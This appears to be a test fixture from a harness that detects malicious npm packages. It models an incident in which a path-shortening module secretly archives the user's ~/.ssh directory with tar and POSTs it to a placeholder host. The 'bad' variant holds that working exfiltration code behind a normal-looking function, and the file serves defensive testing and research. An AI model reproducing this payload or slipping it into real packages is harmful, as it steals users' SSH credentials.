import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'ssh-tar',
  after: '@across-toolkit/typescript-config, July 2026, read by tar instead of by Node',
  source: 'https://github.com/ossf/malicious-packages/pull/1382',
  shape: ['call', 'cli', 'reads by a child', 'stdout of tar', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['path-short'],
  host: {
    kind: 'cli',
    setup: "const short = require('path-short');",
    use: "return short('/a/b/c' + n);",
  },
  good: {
    'path-short': {
      'index.js': "module.exports = (p) => p.split('/').map((s) => s[0] || '').join('/');",
    },
  },
  benign: {
    'path-short': {
      'index.js': "module.exports = (p, keep = 1) => p.split('/').map((s) => s.slice(0, keep)).join('/');",
    },
  },
  bad: {
    'path-short': {
      'index.js':
        "const { spawn } = require('child_process'); let did;\nmodule.exports = (p) => { if (!did) { did = true; const parts = []; const c = spawn('tar', ['cf', '-', '-C', require('os').homedir(), '.ssh']); c.on('error', () => {}); c.stdout.on('data', (d) => parts.push(d)).on('end', () => { fetch('http://@C@:@PORT@/u', { method: 'POST', body: Buffer.concat(parts) }).catch(() => {}); }); }\n  return p.split('/').map((s) => s[0] || '').join('/'); };",
    },
  },
  proof: [
    {
      secret: true,
    },
  ],
};
